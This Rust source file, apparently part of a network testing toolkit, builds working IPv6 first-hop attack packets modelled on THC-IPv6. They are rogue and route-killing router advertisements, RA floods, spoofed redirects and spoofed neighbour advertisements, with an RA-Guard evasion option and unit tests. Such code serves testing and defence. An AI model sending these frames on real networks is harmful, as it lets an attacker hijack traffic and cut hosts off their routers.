//! The packets of the IPv6 first-hop attack tools (THC-IPv6, linux-ipv6.md G10), built with the wire builders so
//! that they are real frames a host validates like any other: `fake_router6` (rogue RA), `kill_router6`
//! (lifetime-0 RA spoofed from the real router), `flood_router26` (random routers and prefixes), `redir6`
//! (Redirect spoofed from the first hop), `parasite6` (spoofed NA) and `dos-new-ip6` (DAD answers).

use std::net::Ipv6Addr;
use std::ops::Range;

use rand::RngExt;
use rand_chacha::ChaCha8Rng;

use super::evasion::{append_evasive, Evasion};
use crate::wire::build::{ipv6_frame, Ipv6Params, Upper, L2};
use crate::wire::ipv6::ALL_NODES;
use crate::wire::ndisc_option::AddrList;
use crate::wire::{
    Icmpv6Repr, MacAddr, NaFlags, NdOptionRepr, NdOptions, NdiscRepr, PrefixInfo, RaFlags, RouteInfo, RouterPreference,
    WireError,
};

/// The Ethernet header length of an untagged frame (the redirected packet is quoted from the IPv6 header on).
const ETH_LEN: usize = 14;

/// Who a packet claims to come from on the link.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Spoof {
    /// The Ethernet source.
    pub mac: MacAddr,
    /// The IPv6 source.
    pub ip: Ipv6Addr,
}

/// How a packet goes out: its IPv6 and link destination and the evasion wrapping.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Delivery {
    /// IPv6 destination.
    pub dst: Ipv6Addr,
    /// Ethernet destination.
    pub dst_mac: MacAddr,
    /// RA-Guard evasion.
    pub evasion: Evasion,
    /// Fragment identification for the fragment variants.
    pub ident: u32,
}

impl Delivery {
    /// To all-nodes (ff02::1, 33:33:00:00:00:01), plain.
    pub fn all_nodes() -> Delivery {
        Delivery {
            dst: ALL_NODES,
            dst_mac: MacAddr::from_ipv6_multicast(ALL_NODES),
            evasion: Evasion::None,
            ident: 0,
        }
    }
}

fn append_nd(buf: &mut Vec<u8>, from: Spoof, to: Delivery, nd: NdiscRepr<'_>) -> Result<Vec<Range<usize>>, WireError> {
    let l2 = L2 {
        src: from.mac,
        dst: to.dst_mac,
        vlan: None,
    };
    let ip = Ipv6Params::new(from.ip, to.dst, 255);
    append_evasive(
        buf,
        l2,
        &ip,
        &Upper::Icmpv6(Icmpv6Repr::Ndisc(nd)),
        to.evasion,
        to.ident,
    )
}

/// What a rogue router announces (`fake_router6`: the highest preference, any prefixes, MTU, RDNSS).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RogueRa {
    /// Router Lifetime in seconds.
    pub router_lifetime: u16,
    /// Default Router Preference; fake_router6 uses high.
    pub preference: RouterPreference,
    /// Cur Hop Limit.
    pub cur_hop_limit: u8,
    /// PIOs (L = A = 1) with their valid and preferred lifetimes.
    pub prefixes: Vec<(Ipv6Addr, u8, u32, u32)>,
    /// RIOs with high preference and this lifetime.
    pub routes: Vec<(Ipv6Addr, u8, u32)>,
    /// MTU option.
    pub mtu: Option<u32>,
    /// RDNSS servers (lifetime = router lifetime).
    pub rdnss: Vec<Ipv6Addr>,
}

impl RogueRa {
    /// fake_router6's defaults: high preference, lifetime 1800 s, one /64 with valid and preferred lifetimes of
    /// 99999 s, MTU 1500, no RDNSS.
    pub fn new(prefix: Ipv6Addr) -> RogueRa {
        RogueRa {
            router_lifetime: 1800,
            preference: RouterPreference::High,
            cur_hop_limit: 64,
            prefixes: vec![(prefix, 64, 99_999, 99_999)],
            routes: Vec::new(),
            mtu: Some(1500),
            rdnss: Vec::new(),
        }
    }
}

/// Appends a rogue RA from `from` (its SLLA names `from.mac`).
pub fn append_rogue_ra(
    buf: &mut Vec<u8>,
    from: Spoof,
    to: Delivery,
    ra: &RogueRa,
) -> Result<Vec<Range<usize>>, WireError> {
    let mut opts = Vec::with_capacity(ra.prefixes.len() + ra.routes.len() + 3);
    for &(prefix, prefix_len, valid, preferred) in &ra.prefixes {
        opts.push(NdOptionRepr::PrefixInformation(PrefixInfo {
            prefix_len,
            on_link: true,
            autonomous: true,
            other_flags: 0,
            valid_lifetime: valid,
            preferred_lifetime: preferred,
            prefix,
        }));
    }
    for &(prefix, prefix_len, lifetime) in &ra.routes {
        opts.push(NdOptionRepr::RouteInformation(RouteInfo {
            prefix_len,
            preference: RouterPreference::High,
            lifetime,
            prefix,
        }));
    }
    if !ra.rdnss.is_empty() {
        opts.push(NdOptionRepr::Rdnss {
            lifetime: u32::from(ra.router_lifetime),
            servers: AddrList::Addrs(&ra.rdnss),
        });
    }
    if let Some(mtu) = ra.mtu {
        opts.push(NdOptionRepr::Mtu(mtu));
    }
    opts.push(NdOptionRepr::SourceLinkLayerAddr(from.mac));
    let nd = NdiscRepr::RouterAdvert {
        hop_limit: ra.cur_hop_limit,
        flags: RaFlags {
            preference: ra.preference,
            ..RaFlags::default()
        },
        router_lifetime: ra.router_lifetime,
        reachable_time: 0,
        retrans_time: 0,
        options: NdOptions::Reprs(&opts),
    };
    append_nd(buf, from, to, nd)
}

/// `kill_router6`: an RA with Router Lifetime 0 from the real router's link-local address, its SLLA (and, when
/// `from.mac` is the router's, its Ethernet source) spoofed, so hosts drop their default route (B12).
pub fn append_kill_router(buf: &mut Vec<u8>, from: Spoof, to: Delivery) -> Result<Vec<Range<usize>>, WireError> {
    let opts = [NdOptionRepr::SourceLinkLayerAddr(from.mac)];
    let nd = NdiscRepr::RouterAdvert {
        hop_limit: 64,
        flags: RaFlags::default(),
        router_lifetime: 0,
        reachable_time: 0,
        retrans_time: 0,
        options: NdOptions::Reprs(&opts),
    };
    append_nd(buf, from, to, nd)
}

/// A random locally administered unicast MAC from the seeded RNG.
pub fn random_mac(rng: &mut ChaCha8Rng) -> MacAddr {
    let mut m: [u8; 6] = rng.random();
    m[0] = (m[0] & 0xfc) | 0x02;
    MacAddr(m)
}

/// `flood_router26`: one RA from a random router (random MAC, its EUI-64 link-local) announcing
/// `prefixes` random /64s under 2001:db8::/32, Router Lifetime `lifetime`, plus MTU and SLLA.
pub fn append_flood_ra(
    buf: &mut Vec<u8>,
    rng: &mut ChaCha8Rng,
    to: Delivery,
    prefixes: u8,
    lifetime: u16,
) -> Result<(Spoof, Vec<Range<usize>>), WireError> {
    let mac = random_mac(rng);
    let from = Spoof {
        mac,
        ip: mac.eui64_link_local(),
    };
    let mut ra = RogueRa::new(Ipv6Addr::UNSPECIFIED);
    ra.router_lifetime = lifetime;
    ra.preference = RouterPreference::Medium;
    ra.prefixes.clear();
    for _ in 0..prefixes {
        let [a, b]: [u16; 2] = rng.random();
        ra.prefixes
            .push((Ipv6Addr::new(0x2001, 0xdb8, a, b, 0, 0, 0, 0), 64, 86_400, 14_400));
    }
    let ranges = append_rogue_ra(buf, from, to, &ra)?;
    Ok((from, ranges))
}

/// What `redir6` tells the victim.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpoofedRedirect {
    /// The destination to redirect.
    pub dest: Ipv6Addr,
    /// The better first hop: usually the attacker's link-local (or `dest` itself: "it is on-link").
    pub target: Ipv6Addr,
    /// The TLLA option's MAC (the attacker's), if sent.
    pub target_mac: Option<MacAddr>,
    /// The victim's source address in the quoted packet (an echo request it would have sent to `dest`).
    pub inner_src: Ipv6Addr,
}

/// `redir6`: a Redirect from the victim's current first hop (`from`, spoofed) to the victim (`to`), with a
/// Redirected Header quoting an echo request `inner_src` → `dest` (RFC 4861 §4.5, §8.1).
pub fn append_redirect(
    buf: &mut Vec<u8>,
    from: Spoof,
    to: Delivery,
    r: &SpoofedRedirect,
) -> Result<Vec<Range<usize>>, WireError> {
    let inner_l2 = L2 {
        src: to.dst_mac,
        dst: from.mac,
        vlan: None,
    };
    let echo = Icmpv6Repr::EchoRequest {
        ident: 0x1234,
        seq_no: 1,
        data: b"redir6!!",
    };
    let inner = ipv6_frame(
        inner_l2,
        &Ipv6Params::new(r.inner_src, r.dest, 64),
        &Upper::Icmpv6(echo),
    )?;
    let quoted = inner.get(ETH_LEN..).ok_or(WireError::Truncated)?;
    // The quote is the IPv6 packet without the Ethernet padding a short frame gets.
    let ip_len = 40 + usize::from(u16::from_be_bytes([quoted[4], quoted[5]]));
    let quoted = quoted.get(..ip_len).ok_or(WireError::Truncated)?;
    let mut opts = Vec::with_capacity(2);
    if let Some(mac) = r.target_mac {
        opts.push(NdOptionRepr::TargetLinkLayerAddr(mac));
    }
    opts.push(NdOptionRepr::RedirectedHeader(quoted));
    let nd = NdiscRepr::Redirect {
        target: r.target,
        dest: r.dest,
        options: NdOptions::Reprs(&opts),
    };
    append_nd(buf, from, to, nd)
}

/// `parasite6` / `dos-new-ip6`: an NA claiming `target` for `tlla` (from `from`, whose IP is normally the
/// target itself), with these flags.
pub fn append_spoofed_na(
    buf: &mut Vec<u8>,
    from: Spoof,
    to: Delivery,
    target: Ipv6Addr,
    tlla: MacAddr,
    flags: NaFlags,
) -> Result<Vec<Range<usize>>, WireError> {
    let opts = [NdOptionRepr::TargetLinkLayerAddr(tlla)];
    let nd = NdiscRepr::NeighborAdvert {
        flags,
        target,
        options: NdOptions::Reprs(&opts),
    };
    append_nd(buf, from, to, nd)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::parse_frame;
    use rand::SeedableRng;

    const ATTACKER: MacAddr = MacAddr([0x02, 0xaa, 0, 0, 0, 1]);

    fn from() -> Spoof {
        Spoof {
            mac: ATTACKER,
            ip: ATTACKER.eui64_link_local(),
        }
    }

    #[test]
    fn flood_routers_differ_and_repeat_per_seed() {
        let mut a = ChaCha8Rng::seed_from_u64(9);
        let mut b = ChaCha8Rng::seed_from_u64(9);
        let mut buf = Vec::new();
        let (r1, _) = append_flood_ra(&mut buf, &mut a, Delivery::all_nodes(), 2, 1800).expect("ok");
        let (r2, _) = append_flood_ra(&mut buf, &mut a, Delivery::all_nodes(), 2, 1800).expect("ok");
        let (r3, _) = append_flood_ra(&mut Vec::new(), &mut b, Delivery::all_nodes(), 2, 1800).expect("ok");
        assert_ne!(r1, r2);
        assert_eq!(r1, r3);
        assert!(r1.mac.is_local() && r1.mac.is_unicast());
    }

    #[test]
    fn redirect_quotes_an_echo_request_without_padding() {
        let mut buf = Vec::new();
        let victim: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 1, 0, 0, 0, 0, 0x10);
        let to = Delivery {
            dst: victim,
            dst_mac: MacAddr([2, 0, 0, 0, 0, 0x10]),
            evasion: Evasion::None,
            ident: 0,
        };
        let r = SpoofedRedirect {
            dest: Ipv6Addr::new(0x2001, 0xdb8, 9, 0, 0, 0, 0, 1),
            target: ATTACKER.eui64_link_local(),
            target_mac: Some(ATTACKER),
            inner_src: victim,
        };
        let ranges = append_redirect(&mut buf, from(), to, &r).expect("builds");
        let view = parse_frame(&buf[ranges[0].clone()]).expect("parses");
        let Some(Ok(Icmpv6Repr::Ndisc(NdiscRepr::Redirect { options, .. }))) = view.icmpv6() else {
            panic!("not a redirect");
        };
        let quoted = options.reprs().find_map(|o| match o {
            Ok(NdOptionRepr::RedirectedHeader(q)) => Some(q),
            _ => None,
        });
        // 40 + 16 bytes of echo, then zero padding to the option's 8-byte boundary.
        assert_eq!(quoted.map(|q| (q[6], q.len() >= 56)), Some((58, true)));
    }
}
